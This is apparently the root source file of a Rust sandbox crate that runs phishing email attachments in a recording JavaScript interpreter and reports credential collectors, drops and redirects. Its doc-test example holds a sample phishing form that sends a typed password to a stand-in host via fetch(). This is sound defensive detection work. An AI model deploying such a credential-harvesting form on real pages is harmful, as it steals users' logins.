//! Pages of attachments run in a bounded interpreter over a DOM that records instead of doing.
//!
//! ```
//! let page = "<form onsubmit=\"fetch('https://c.test/x', {method: 'POST', body: this.p.value}); return false\">\
//!             <input name=p type=password><button>Sign in</button></form>";
//! let outcome = creel_sandbox::run(page, &creel_sandbox::Limits::default());
//! assert_eq!(outcome.collectors[0].url, "https://c.test/x");
//! ```
//!
//! [`run`] takes the text of an HTML or SVG page and gives an [`Outcome`]: documents that scripts wrote, requests, collectors
//! of credentials, files, redirects, code that was built at run time, gates, tricks, an outline of what is seen, and the
//! record of it all as text. [`has_scripts`] says cheaply whether there is anything to run.
//!
//! What happens in a visit: the page is parsed and its scripts run; timers run in the order in which they are due, on a clock
//! that only moves with them; the mouse moves if the page waits for that; then the victim is played: fields are filled
//! with clearly marked example credentials ([`credentials`]), buttons pressed, forms sent, in up to four rounds, so that
//! a page which asks for the address first and for the password then, or twice, is seen through. Frames, windows and
//! `blob:` pages that come out of it are visited in realms of their own. A page that looks at its own address is visited
//! again with an example address there, and the visit in which more happened counts.
//!
//! * `machine`: the interpreter (QuickJS) and the order of a visit; `host`: meter and memory; `natives`: what the stage may call;
//! * `js/`: the stage, written in the interpreter's language, which runs in a realm that pages cannot reach;
//! * `rewrite`: finding `eval`; `markup`, `codecs`, `ciphers`: what is faster or safer in Rust;
//! * `collectors`, `credentials`, `journal`: what the events mean.
//!
//! The same page gives the same outcome on every machine: steps are counted instead of time, the clock stands at
//! 2026-06-15T09:00:00Z, the time zone is UTC, the language English, and chance comes from a fixed seed.
//!
//! What this crate never does: open a socket or file, start a process or thread, look at the clock, fetch anything. Libraries that
//! a page would load from elsewhere are not loaded; of the one that is common (jQuery) a part is written anew here as a
//! stand-in, and the record says so. Servers answer nothing: requests get a stand-in answer that says that all is well.
//! It does not judge: a login page of an intranet has a collector as well.

mod ciphers;
mod codecs;
mod collectors;
pub mod credentials;
mod host;
mod journal;
mod limits;
mod machine;
mod markup;
mod natives;
pub mod outcome;
mod rewrite;
mod victims;

use host::Recorder;
pub use limits::Limits;
pub use markup::has_scripts;
use outcome::DroppedFile;
pub use outcome::{Carries, Collector, CollectorKind, Document, DocumentKind, Outcome, Request};
use sha2::{Digest, Sha256};

/// Where a page that came by mail lies when it is opened.
const ADDRESS: &str = "file:///C:/Users/reader/Downloads/attachment.html";

/// Visits a page. Total and deterministic; what a limit cut short is named in [`Outcome::limits`].
#[must_use]
pub fn run(page: &str, limits: &Limits) -> Outcome {
    if page.len() > limits.page {
        return Outcome { limits: vec!["page".to_owned()], ..Outcome::default() };
    }
    let (recorder, steps) = machine::visit(page, ADDRESS, limits);
    let asks = looks_at_address(&recorder);
    let mut best = tell(&recorder);
    let mut left = limits.steps.saturating_sub(steps);
    // A page that looks for its victim in its own address shows nothing to whom it does not find there.
    if asks && best.collectors.is_empty() {
        let base64 = data_encoding::BASE64.encode(credentials::EMAIL.as_bytes());
        for address in [
            format!("{ADDRESS}#{}", credentials::EMAIL),
            format!("{ADDRESS}#{base64}"),
            format!("{ADDRESS}?email={}", credentials::EMAIL),
        ] {
            if left < limits.steps / 8 {
                break;
            }
            let share = Limits { steps: left, task_steps: limits.task_steps.min(left), ..limits.clone() };
            let (recorder, steps) = machine::visit(page, &address, &share);
            left = left.saturating_sub(steps);
            let mut other = tell(&recorder);
            if weight(&other) > weight(&best) {
                other.gates.push(outcome::Note {
                    what: "fragment".to_owned(),
                    detail: "the page goes on when its address names whom it was sent to".to_owned(),
                });
                other
                    .record
                    .push_str("gate fragment the page was visited with an example address in its own\n");
                let is_done = !other.collectors.is_empty();
                best = other;
                if is_done {
                    break;
                }
            }
        }
    }
    best
}

fn looks_at_address(recorder: &Recorder) -> bool {
    recorder.looked_at.iter().any(|part| part == "hash" || part == "search" || part == "href")
}

/// How much came to light, to compare visits of one page.
fn weight(outcome: &Outcome) -> (usize, usize, usize) {
    let typed = |url: &str| usize::from(url.contains(credentials::EMAIL_MARK));
    (
        outcome.collectors.len(),
        outcome.drops.len()
            + outcome.redirects.iter().map(|redirect| 1 + typed(&redirect.url)).sum::<usize>(),
        outcome.documents.iter().map(|document| document.html.len()).sum::<usize>() / 64,
    )
}

/// What the events of a visit mean.
fn tell(recorder: &Recorder) -> Outcome {
    let requests = collectors::requests(recorder);
    let collectors = collectors::collectors(recorder, &requests);
    let mut outcome = Outcome {
        documents: recorder
            .documents
            .iter()
            .map(|document| Document { how: document.how, html: credentials::masked(&document.html) })
            .collect(),
        outline: credentials::masked(&recorder.outline),
        collectors,
        drops: recorder
            .drops
            .iter()
            .map(|(event, bytes)| DroppedFile {
                name: event.name.clone(),
                media_type: event.media_type.clone(),
                sha256: data_encoding::HEXLOWER.encode(&Sha256::digest(bytes)),
                bytes: bytes.clone(),
                clicked: event.clicked,
                phase: event.phase,
            })
            .collect(),
        redirects: recorder.redirects(),
        code: recorder
            .code
            .iter()
            .map(|code| outcome::Code { how: code.how.clone(), text: credentials::masked(&code.text) })
            .collect(),
        victims: victims::addresses(recorder),
        gates: recorder.notes(true),
        tricks: recorder.notes(false),
        errors: recorder.errors(),
        limits: recorder.limits.clone(),
        ..Outcome::default()
    };
    for redirect in &mut outcome.redirects {
        redirect.url = credentials::masked(&redirect.url);
    }
    outcome.record = journal::write(recorder, &outcome, &requests);
    outcome.requests = requests;
    outcome
}
